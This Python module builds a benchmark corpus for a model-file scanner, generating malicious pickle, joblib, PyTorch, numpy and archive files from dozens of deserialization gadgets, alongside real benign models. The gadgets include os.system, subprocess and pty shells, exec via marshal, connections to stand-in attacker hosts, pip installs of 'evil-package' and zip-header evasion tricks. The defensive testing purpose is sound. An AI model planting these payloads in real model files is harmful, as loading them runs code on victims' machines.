"""The scanner benchmark's corpus: one generated file per technique × container, plus benign models.

    build_corpus(dir) -> list[Case]

Every hostile file here is *written*, never loaded: payloads are object graphs of
:class:`Ref` (a global, named by strings — the target is never imported) and
:class:`Call` (a REDUCE), dumped by a pure-Python pickler that knows how to write them,
and hand-built opcodes for the tricks no pickler emits. Techniques come from
/work/shared/reference/ARTIFACT_THREATS.md; the containers are the places a pickle hides
(raw pickle protocols 0/2/4/5, joblib plain and compressed, PyTorch zip with its zip
tricks, legacy PyTorch, .npy/.npz, tar.gz and a zip inside a tar). Benign files are real
scikit-learn, numpy, pandas and torch outputs and a hand-written safetensors file.
"""

from __future__ import annotations

import contextlib
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

import numpy as np


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    malicious: bool
    technique: str
    container: str


@dataclass(frozen=True, eq=False)
class Ref:
    """A global ``module.name``: GLOBAL below protocol 4, STACK_GLOBAL from it on."""

    module: str
    name: str


@dataclass(frozen=True, eq=False)
class Call:
    """``func(*args)`` written as REDUCE."""

    func: Any
    args: tuple[Any, ...] = ()


@dataclass(frozen=True, eq=False)
class Raw:
    """A hand-written fragment: ``write(pickler)`` must leave exactly one value on the stack."""

    write: Callable[[Any], None]


@dataclass(frozen=True, eq=False)
class Storage:
    """A torch storage, written as a persistent id the way torch.save does."""

    key: str
    numel: int


def _save_ref(pk: Any, obj: Ref) -> None:
    if pk.proto >= 4:
        pk.save(obj.module)
        pk.save(obj.name)
        pk.write(pickle.STACK_GLOBAL)
    else:
        pk.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())


def _save_call(pk: Any, obj: Call) -> None:
    pk.save(obj.func)
    pk.save(tuple(obj.args))
    pk.write(pickle.REDUCE)


_EXTRA_DISPATCH = {Ref: _save_ref, Call: _save_call, Raw: lambda pk, obj: obj.write(pk)}


class CorpusPickler(pickle._Pickler):  # type: ignore[name-defined]
    """The pure-Python pickler, taught to write Ref/Call/Raw and torch storages."""

    dispatch: ClassVar[dict[type, Any]] = {**pickle._Pickler.dispatch, **_EXTRA_DISPATCH}  # type: ignore[attr-defined]

    def __init__(self, file: Any, protocol: int, legacy_torch: bool = False) -> None:
        super().__init__(file, protocol=protocol)
        self.legacy_torch = legacy_torch

    def persistent_id(self, obj: Any) -> Any:
        if isinstance(obj, Storage):
            pid = ("storage", Ref("torch", "FloatStorage"), obj.key, "cpu", obj.numel)
            return (*pid, None) if self.legacy_torch else pid
        return None


def dumps(obj: Any, protocol: int, legacy_torch: bool = False) -> bytes:
    buf = io.BytesIO()
    CorpusPickler(buf, protocol, legacy_torch).dump(obj)
    return buf.getvalue()


@contextlib.contextmanager
def _joblib_knows_refs() -> Iterator[None]:
    from joblib.numpy_pickle import NumpyPickler

    NumpyPickler.dispatch.update(_EXTRA_DISPATCH)
    try:
        yield
    finally:
        for t in _EXTRA_DISPATCH:
            NumpyPickler.dispatch.pop(t, None)



def call(target: str, *args: Any) -> Call:
    mod, name = target.rsplit(".", 1) if ":" not in target else target.split(":")
    return Call(Ref(mod, name), args)


def _stack_global_from_memo(mod: str, name: str, *args: Any) -> Raw:
    """Module and name strings memoised early, popped, then fetched back for STACK_GLOBAL."""
    def write(pk: Any) -> None:
        keep = [mod, name]
        for s in keep:
            pk.save(s)
            pk.write(pickle.POP)
        for s in keep:
            pk.write(pk.get(pk.memo[id(s)][0]))
        pk.write(pickle.STACK_GLOBAL)
        pk.save(tuple(args))
        pk.write(pickle.REDUCE)
    return Raw(write)


def _inst(mod: str, name: str, *args: Any) -> Raw:
    def write(pk: Any) -> None:
        pk.write(pickle.MARK)
        for a in args:
            pk.save(a)
        pk.write(pickle.INST + f"{mod}\n{name}\n".encode())
    return Raw(write)


def _obj_pop(mod: str, name: str, *args: Any) -> Raw:
    def write(pk: Any) -> None:
        pk.write(pickle.MARK)
        pk.save(Ref(mod, name))
        for a in args:
            pk.save(a)
        pk.write(pickle.OBJ + pickle.POP + pickle.NONE)
    return Raw(write)


def _newobj_ex(mod: str, name: str, *args: Any) -> Raw:
    def write(pk: Any) -> None:
        pk.save(Ref(mod, name))
        pk.save(tuple(args))
        pk.save({"shell": True})
        pk.write(pickle.NEWOBJ_EX)
    return Raw(write)


def _ext2(code: int) -> Raw:
    return Raw(lambda pk: pk.write(pickle.EXT2 + struct.pack("<H", code) + pickle.EMPTY_TUPLE + pickle.REDUCE))


def _partial_swap() -> Raw:
    """functools.partial(int) whose __setstate__ swaps in os.system, then called."""
    def write(pk: Any) -> None:
        pk.save(Ref("functools", "partial"))
        pk.save((Ref("builtins", "int"),))
        pk.write(pickle.REDUCE)
        pk.save((Ref("os", "system"), ("echo pwned",), {}, None))
        pk.write(pickle.BUILD + pickle.EMPTY_TUPLE + pickle.REDUCE)
    return Raw(write)


def _marshal_function() -> Call:
    code = marshal.dumps(compile("import os; os.system('echo pwned')", "<x>", "exec"))
    fn = Call(Ref("types", "FunctionType"), (call("marshal.loads", code), {}))
    return Call(fn, ())


_CMD = "echo pwned"
_PY = "import os; os.system('echo pwned')"


@dataclass(frozen=True)
class Technique:
    id: str
    payload: Callable[[], Any] | None = None  # an object graph; None for whole-stream tricks
    stream: Callable[[int, int], bytes] | None = None  # (protocol, blob bytes) -> pickle
    min_proto: int = 0
    containers: frozenset[str] | None = None  # None: every container an object graph fits


GADGETS: list[Technique] = [
    Technique("os.system", lambda: call("os.system", _CMD)),
    Technique("posix.system", lambda: call("posix.system", _CMD)),
    Technique("subprocess.Popen", lambda: call("subprocess.Popen", ["sh", "-c", _CMD])),
    Technique("builtins.eval via memo STACK_GLOBAL", lambda: _stack_global_from_memo("builtins", "eval", "1+1")),
    Technique("builtins.exec via memo STACK_GLOBAL", lambda: _stack_global_from_memo("builtins", "exec", _PY)),
    Technique("runpy._run_code", lambda: call("runpy._run_code", _PY, {})),
    Technique("pty.spawn", lambda: call("pty.spawn", "/bin/sh")),
    Technique("asyncio.unix_events submodule", lambda: call("asyncio.unix_events._UnixSubprocessTransport")),
    Technique("importlib.import_module", lambda: call("importlib.import_module", "os")),
    Technique("pkgutil.resolve_name", lambda: Call(call("pkgutil.resolve_name", "os:system"), (_CMD,))),
    Technique("operator.methodcaller", lambda: Call(call("operator.methodcaller", "system", _CMD),
                                                    (call("importlib.import_module", "os"),))),
    Technique("operator.attrgetter", lambda: call("operator.attrgetter", "system")),
    Technique("functools.partial setstate swap", _partial_swap),
    Technique("pydoc.locate", lambda: Call(call("pydoc.locate", "os.system"), (_CMD,))),
    Technique("code.InteractiveInterpreter.runcode",
              lambda: call("code:InteractiveInterpreter.runcode", call("code.InteractiveInterpreter"), _PY),
              min_proto=4),
    Technique("timeit.timeit", lambda: call("timeit.timeit", _PY, "pass", None, 1)),
    Technique("cProfile.run", lambda: call("cProfile.run", _PY)),
    Technique("pdb.run", lambda: call("pdb.run", _PY)),
    Technique("ctypes.CDLL", lambda: call("ctypes.CDLL", "libc.so.6")),
    Technique("marshal.loads + types.FunctionType", _marshal_function),
    Technique("shutil.rmtree", lambda: call("shutil.rmtree", "/tmp/mlwarden-corpus-victim")),
    Technique("socket.create_connection", lambda: call("socket.create_connection", ("attacker.invalid", 4444))),
    Technique("ssl.get_server_certificate", lambda: call("ssl.get_server_certificate", ("secret.attacker.invalid", 443))),
    Technique("linecache.getline", lambda: call("linecache.getline", "/etc/passwd", 1)),
    Technique("uuid._get_command_stdout", lambda: call("uuid._get_command_stdout", "sh", "-c", _CMD)),
    Technique("_osx_support._read_output", lambda: call("_osx_support._read_output", _CMD)),
    Technique("logging.config.fileConfig", lambda: call("logging.config.fileConfig", "/tmp/evil.ini")),
    Technique("pip.main", lambda: call("pip.main", ["install", "evil-package"])),
    Technique("torch.hub.load", lambda: call("torch.hub.load", "attacker/repo", "model")),
    Technique("numpy.testing runstring", lambda: call("numpy.testing._private.utils.runstring", _PY, {})),
    Technique("dotted name through torch (torch + os.system)", lambda: call("torch:os.system", _CMD), min_proto=4),
    Technique("dotted name through collections (_sys.modules)",
              lambda: call("collections:_sys.modules.get", "os"), min_proto=4),
    # Third-party gadgets that no list in ARTIFACT_THREATS.md names: the allowlist's job.
    Technique("torch._utils._import_dotted_name resolver",
              lambda: Call(call("torch._utils._import_dotted_name", "os.system"), (_CMD,))),
    Technique("torch.utils.model_zoo.load_url (torch.hub re-export)",
              lambda: call("torch.utils.model_zoo.load_url", "https://attacker.invalid/m.pt")),
    Technique("copyreg._reconstructor runs a resolved Popen.__init__",
              lambda: Call(Ref("copyreg", "_reconstructor"),
                           (call("torch._utils._import_dotted_name", "subprocess.Popen"),
                            call("torch._utils._import_dotted_name", "subprocess.Popen"), ["sh", "-c", _CMD]))),
    Technique("jinja2.utils.import_string resolver",
              lambda: Call(call("jinja2.utils.import_string", "os.system"), (_CMD,))),
    Technique("sympy.sympify (eval)", lambda: call("sympy.sympify", "__import__('os').system('echo pwned')")),
    Technique("joblib.disk.delete_folder", lambda: call("joblib.disk.delete_folder", "/tmp/mlwarden-corpus-victim")),
    # Opcode tricks.
    Technique("INST opcode", lambda: _inst("os", "system", _CMD)),
    Technique("OBJ + POP (result discarded)", lambda: _obj_pop("os", "system", _CMD)),
    Technique("NEWOBJ_EX", lambda: _newobj_ex("subprocess", "Popen", ["sh", "-c", _CMD])),
    Technique("EXT2 code (copyreg registry)", lambda: _ext2(0x1337)),
]


def _model(payload: Any) -> dict[str, Any]:
    return {"format": "demo-model", "weights": [0.5, -1.25, 3.0], "config": payload}


def _broken_tail(proto: int, blob: int) -> bytes:
    return dumps(_model(call("os.system", _CMD)), proto)[:-1] + b"\xff\xfe corrupt tail"


def _after_blob(proto: int, blob: int) -> bytes:
    return dumps({"blob": os.urandom(blob), "config": call("os.system", _CMD)}, proto)


def _second_pickle(proto: int, blob: int) -> bytes:
    return dumps({"weights": [1.0, 2.0]}, proto) + dumps(_model(call("os.system", _CMD)), proto)


def _second_pickle_no_proto(proto: int, blob: int) -> bytes:
    """The second pickle drops its PROTO header, so it starts with FRAME (or another opcode)."""
    return dumps({"weights": [1.0, 2.0]}, proto) + dumps(_model(call("os.system", _CMD)), proto)[2:]


_RAW_AND_ZIP = frozenset({"pkl-p0", "pkl-p2", "pkl-p4", "pkl-p5", "torch-zip", "tar.gz"})
STREAMS: list[Technique] = [
    Technique("payload before a broken tail", stream=_broken_tail, containers=_RAW_AND_ZIP),
    Technique("payload after a large blob", stream=_after_blob, min_proto=4,
              containers=frozenset({"pkl-p4", "pkl-p5", "torch-zip"})),
    Technique("several pickles, payload in the second", stream=_second_pickle,
              containers=frozenset({"pkl-p0", "pkl-p2", "pkl-p4", "pkl-p5"})),
    Technique("several pickles, second without PROTO", stream=_second_pickle_no_proto, min_proto=2,
              containers=frozenset({"pkl-p2", "pkl-p4", "pkl-p5"})),
]
TECHNIQUES = GADGETS + STREAMS



@dataclass(frozen=True)
class Member:
    """One stored zip member; the other fields build the zip tricks."""

    name: str
    data: bytes
    flags: int = 0
    bad_crc: bool = False
    local_name: str | None = None  # a different name in the local header
    local_size: int | None = None  # a different size in the local header


def write_zip(path: Path, members: Iterable[Member]) -> None:
    """A stored zip written by hand, so its headers can lie the way torch tolerates."""
    out, central = bytearray(), bytearray()
    members = list(members)
    for m in members:
        crc = zlib.crc32(m.data) ^ (0xDEADBEEF if m.bad_crc else 0)
        lname = (m.local_name or m.name).encode()
        lsize = len(m.data) if m.local_size is None else m.local_size
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, m.flags, 0, 0, 0x21, crc, lsize, lsize, len(lname), 0)
        out += lname + m.data
        name = m.name.encode()
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0x031E, 20, m.flags, 0, 0, 0x21, crc,
                               len(m.data), len(m.data), len(name), 0, 0, 0, 0, 0o100644 << 16, offset)
        central += name
    eocd = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + eocd))


def _torch_state(payload: Any) -> OrderedDict[str, Any]:
    def tensor(key: str, shape: tuple[int, ...]) -> Call:
        numel = int(np.prod(shape))
        stride = tuple(int(np.prod(shape[i + 1:])) for i in range(len(shape)))
        return Call(Ref("torch._utils", "_rebuild_tensor_v2"),
                    (Storage(key, numel), 0, shape, stride, False, OrderedDict()))
    return OrderedDict([("fc.weight", tensor("0", (2, 2))), ("fc.bias", tensor("1", (2,))), ("config", payload)])


_TENSOR_BYTES = {"0": np.arange(4, dtype=np.float32).tobytes(), "1": np.ones(2, np.float32).tobytes()}


def _torch_members(data_pkl: bytes, prefix: str = "model", **trick: Any) -> list[Member]:
    return [
        Member(f"{prefix}/data.pkl", data_pkl, **trick),
        Member(f"{prefix}/byteorder", b"little"),
        Member(f"{prefix}/data/0", _TENSOR_BYTES["0"]),
        Member(f"{prefix}/data/1", _TENSOR_BYTES["1"]),
        Member(f"{prefix}/version", b"3\n"),
        Member(f"{prefix}/.data/serialization_id", b"1234567890"),
    ]


def _legacy_torch(model_pkl: bytes) -> bytes:
    parts = [
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True,
                      "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2),
        model_pkl,
        pickle.dumps(["0", "1"], protocol=2),
    ]
    for key in ("0", "1"):
        parts.append(struct.pack("<q", len(_TENSOR_BYTES[key]) // 4) + _TENSOR_BYTES[key])
    return b"".join(parts)


def _npy_object(payload: Any) -> bytes:
    arr = np.array(["demo", None], dtype=object)
    arr[1] = payload
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, {"descr": "|O", "fortran_order": False, "shape": (2,)})
    CorpusPickler(buf, 3).dump(arr)
    return buf.getvalue()


def _npy(arr: np.ndarray) -> bytes:
    buf = io.BytesIO()
    np.save(buf, arr)
    return buf.getvalue()


def _tar(path: Path, members: dict[str, bytes], mode: str) -> None:
    with tarfile.open(path, mode) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))


@dataclass(frozen=True)
class Source:
    """What a container wraps: an object graph, or only whole pickle bytes."""

    obj: Any | None
    pickled: Callable[[int, str], bytes]  # (protocol, "plain" | "torch" | "legacy") -> pickle bytes


def _joblib(path: Path, src: Source, compress: Any) -> bool:
    import joblib

    if src.obj is None:
        return False
    value = {"coef": np.linspace(-1, 1, 16), "intercept": 0.25, "config": src.obj}
    with _joblib_knows_refs():
        joblib.dump(value, path, compress=compress)
    return True


def _zip_of(path: Path, src: Source, proto: int, **trick: Any) -> bool:
    write_zip(path, _torch_members(src.pickled(max(2, proto), "torch"), **trick))
    return True


def _zip_noext(path: Path, src: Source, proto: int) -> bool:
    benign = dumps(_torch_state("benign"), 2)
    members = _torch_members(benign)
    members.insert(3, Member("model/data/2", src.pickled(max(2, proto), "torch")))
    write_zip(path, members)
    return True


# name -> (file suffix, default protocol, writer(path, source, protocol) -> written?)
CONTAINERS: dict[str, tuple[str, int, Callable[[Path, Source, int], bool]]] = {
    "pkl-p0": (".pkl", 0, lambda p, s, v: bool(p.write_bytes(s.pickled(v, "plain")))),
    "pkl-p2": (".pkl", 2, lambda p, s, v: bool(p.write_bytes(s.pickled(v, "plain")))),
    "pkl-p4": (".pkl", 4, lambda p, s, v: bool(p.write_bytes(s.pickled(v, "plain")))),
    "pkl-p5": (".pkl", 5, lambda p, s, v: bool(p.write_bytes(s.pickled(v, "plain")))),
    "raw-bin": (".bin", 2, lambda p, s, v: bool(p.write_bytes(s.pickled(v, "plain")))),
    "joblib": (".joblib", 4, lambda p, s, v: _joblib(p, s, 0)),
    "joblib-zlib": (".joblib", 4, lambda p, s, v: _joblib(p, s, ("zlib", 3))),
    "joblib-lzma": (".joblib", 4, lambda p, s, v: _joblib(p, s, ("lzma", 3))),
    "torch-zip": (".pt", 2, _zip_of),
    "zip-member.bin": (".zip", 4, lambda p, s, v: bool(write_zip(p, [Member("model/weights.bin", s.pickled(v, "plain")),
                                                                    Member("model/README.md", b"demo\n")])) or True),
    "zip-noext": (".pt", 2, _zip_noext),
    "torch-zip-flag1": (".pt", 2, lambda p, s, v: _zip_of(p, s, v, flags=0x1)),
    "torch-zip-badcrc": (".pt", 2, lambda p, s, v: _zip_of(p, s, v, bad_crc=True)),
    "torch-zip-hdrmismatch": (".pt", 2, lambda p, s, v: _zip_of(p, s, v, local_name="model/notes.txt", local_size=16)),
    "torch-legacy": (".pt", 2, lambda p, s, v: bool(p.write_bytes(_legacy_torch(s.pickled(v, "legacy"))))),
    "npy-object": (".npy", 3, lambda p, s, v: s.obj is not None and bool(p.write_bytes(_npy_object(s.obj)))),
    "npz": (".npz", 3, lambda p, s, v: s.obj is not None and _npz(p, s.obj)),
    "tar.gz": (".tar.gz", 4, lambda p, s, v: _tar(p, {"model/model.pkl": s.pickled(v, "plain"),
                                                      "model/README.md": b"demo\n"}, "w:gz") or True),
    "zip-in-tar": (".tar", 2, lambda p, s, v: _zip_in_tar(p, s, v)),
}


def _npz(path: Path, payload: Any) -> bool:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("weights.npy", _npy(np.linspace(0, 1, 8)))
        zf.writestr("meta.npy", _npy_object(payload))
    return True


def _zip_in_tar(path: Path, src: Source, proto: int) -> bool:
    inner = path.with_suffix(".inner.pt")
    write_zip(inner, _torch_members(src.pickled(max(2, proto), "torch")))
    _tar(path, {"checkpoint/model.pt": inner.read_bytes(), "checkpoint/config.json": b"{}"}, "w")
    inner.unlink()
    return True


def _source(t: Technique, blob: int) -> Source:
    if t.stream is not None:
        stream = t.stream
        return Source(None, lambda proto, style: stream(proto, blob))
    assert t.payload is not None
    payload = t.payload

    def pickled(proto: int, style: str) -> bytes:
        obj = _model(payload()) if style == "plain" else _torch_state(payload())
        return dumps(obj, proto, legacy_torch=style == "legacy")

    return Source(payload(), pickled)


def _slug(text: str) -> str:
    return "".join(c if c.isalnum() else "_" for c in text).strip("_")[:60]


def build_corpus(root: str | Path, *, techniques: Iterable[str] | None = None,
                 containers: Iterable[str] | None = None, blob_bytes: int = 64 << 20,
                 benign: bool = True) -> list[Case]:
    """Write the corpus under ``root``; ``techniques``/``containers`` pick a subset by id."""
    root = Path(root)
    (root / "malicious").mkdir(parents=True, exist_ok=True)
    want_t = set(techniques) if techniques is not None else None
    want_c = set(containers) if containers is not None else None
    cases: list[Case] = []
    for t in TECHNIQUES:
        if want_t is not None and t.id not in want_t:
            continue
        src = _source(t, blob_bytes)
        for cname, (suffix, proto, write) in CONTAINERS.items():
            if (want_c is not None and cname not in want_c) or (t.containers is not None and cname not in t.containers):
                continue
            if cname.startswith("pkl-p") and proto < t.min_proto:
                continue  # the container *is* the protocol; the trick needs a later one
            path = root / "malicious" / f"{_slug(t.id)}__{_slug(cname)}{suffix}"
            if write(path, src, max(proto, t.min_proto)):
                cases.append(Case(path.name, path, True, t.id, cname))
    if benign:
        cases.extend(build_benign(root / "benign"))
    return cases



def _safetensors(path: Path) -> None:
    w = np.arange(6, dtype=np.float32)
    b = np.ones(2, dtype=np.float32)
    header = {"fc.weight": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]},
              "fc.bias": {"dtype": "F32", "shape": [2], "data_offsets": [24, 32]},
              "__metadata__": {"format": "pt"}}
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    path.write_bytes(struct.pack("<Q", len(text)) + text + w.tobytes() + b.tobytes())


def build_benign(root: Path) -> list[Case]:
    """Real model files from the libraries people save models with."""
    import warnings

    import joblib
    import pandas as pd
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler

    root.mkdir(parents=True, exist_ok=True)
    rng = np.random.default_rng(0)
    X, y = rng.normal(size=(200, 5)), rng.integers(0, 2, 200)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        logreg = LogisticRegression().fit(X, y)
        forest = RandomForestClassifier(n_estimators=5, random_state=0).fit(X, y)
        pipe = make_pipeline(StandardScaler(), HistGradientBoostingClassifier(max_iter=5)).fit(X, y)
        onehot = OneHotEncoder().fit(rng.integers(0, 3, (50, 2)))
    frame = pd.DataFrame({"x": rng.normal(size=20), "n": np.arange(20), "s": [f"r{i}" for i in range(20)],
                          "c": pd.Categorical(["a", "b"] * 10),
                          "t": pd.date_range("2024-01-01", periods=20, freq="D", tz="UTC")})
    out: list[tuple[str, str, Callable[[Path], Any]]] = [
        ("sklearn LogisticRegression", "pkl-p5", lambda p: p.write_bytes(pickle.dumps(logreg, protocol=5))),
        ("sklearn LogisticRegression", "pkl-p2", lambda p: p.write_bytes(pickle.dumps(logreg, protocol=2))),
        ("sklearn LogisticRegression", "joblib", lambda p: joblib.dump(logreg, p)),
        ("sklearn RandomForest", "joblib", lambda p: joblib.dump(forest, p)),
        ("sklearn RandomForest", "joblib-zlib", lambda p: joblib.dump(forest, p, compress=("zlib", 3))),
        ("sklearn scaler+HistGradientBoosting", "joblib-lzma", lambda p: joblib.dump(pipe, p, compress=("lzma", 3))),
        ("sklearn scaler+HistGradientBoosting", "pkl-p4", lambda p: p.write_bytes(pickle.dumps(pipe, protocol=4))),
        ("sklearn OneHotEncoder", "joblib", lambda p: joblib.dump(onehot, p)),
        ("numpy float array", "npy", lambda p: np.save(p, rng.normal(size=(64, 8)))),
        ("numpy arrays", "npz", lambda p: np.savez_compressed(p, a=np.arange(10), b=rng.normal(size=(4, 4)))),
        ("numpy array", "pkl-p2", lambda p: p.write_bytes(pickle.dumps(rng.normal(size=(8, 8)), protocol=2))),
        ("pandas DataFrame", "pkl-p5", lambda p: frame.to_pickle(p, protocol=5)),
        ("pandas DataFrame", "pkl-p2", lambda p: frame.to_pickle(p, protocol=2)),
        ("L1-sparse weights (4M float64, 500 non-zero)", "joblib-zlib", lambda p: joblib.dump(
            {"coef": _sparse_coef(rng), "classes": np.arange(2)}, p, compress=("zlib", 3))),
        ("plain dict", "pkl-p0", lambda p: p.write_bytes(pickle.dumps({"lr": 0.1, "layers": [64, 32]}, protocol=0))),
        ("safetensors", "safetensors", _safetensors),
    ]
    try:
        import torch

        net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.BatchNorm1d(8), torch.nn.Linear(8, 2))
        sd = net.state_dict()
        out += [
            ("torch state_dict", "torch-zip", lambda p: torch.save(sd, p)),
            ("torch state_dict", "torch-legacy", lambda p: torch.save(sd, p, _use_new_zipfile_serialization=False)),
            ("torch state_dict + optimizer", "torch-zip",
             lambda p: torch.save({"model": sd, "optim": torch.optim.Adam(net.parameters()).state_dict(), "epoch": 3}, p)),
            ("torch state_dict", "tar.gz", lambda p: _tar(p, {"ckpt/model.pt": _torch_bytes(torch, sd)}, "w:gz")),
        ]
    except ImportError:
        pass
    suffixes = {"npy": ".npy", "npz": ".npz", "safetensors": ".safetensors", "tar.gz": ".tar.gz"}
    cases = []
    for technique, container, write in out:
        suffix = suffixes.get(container) or CONTAINERS[container][0]
        path = root / f"{_slug(technique)}__{_slug(container)}{suffix}"
        write(path)
        cases.append(Case(path.name, path, False, technique, container))
    return cases


def _sparse_coef(rng: np.random.Generator) -> np.ndarray:
    """A strongly L1-regularised model's weights: 4M float64, 500 of them non-zero."""
    coef = np.zeros((2, 2_000_000))
    coef[:, rng.choice(2_000_000, 250, replace=False)] = rng.normal(size=(2, 250))
    return coef


def _torch_bytes(torch: Any, obj: Any) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


if __name__ == "__main__":
    import sys

    built = build_corpus(sys.argv[1] if len(sys.argv) > 1 else "bench/out/corpus")
    print(f"{sum(c.malicious for c in built)} malicious, {sum(not c.malicious for c in built)} benign files")
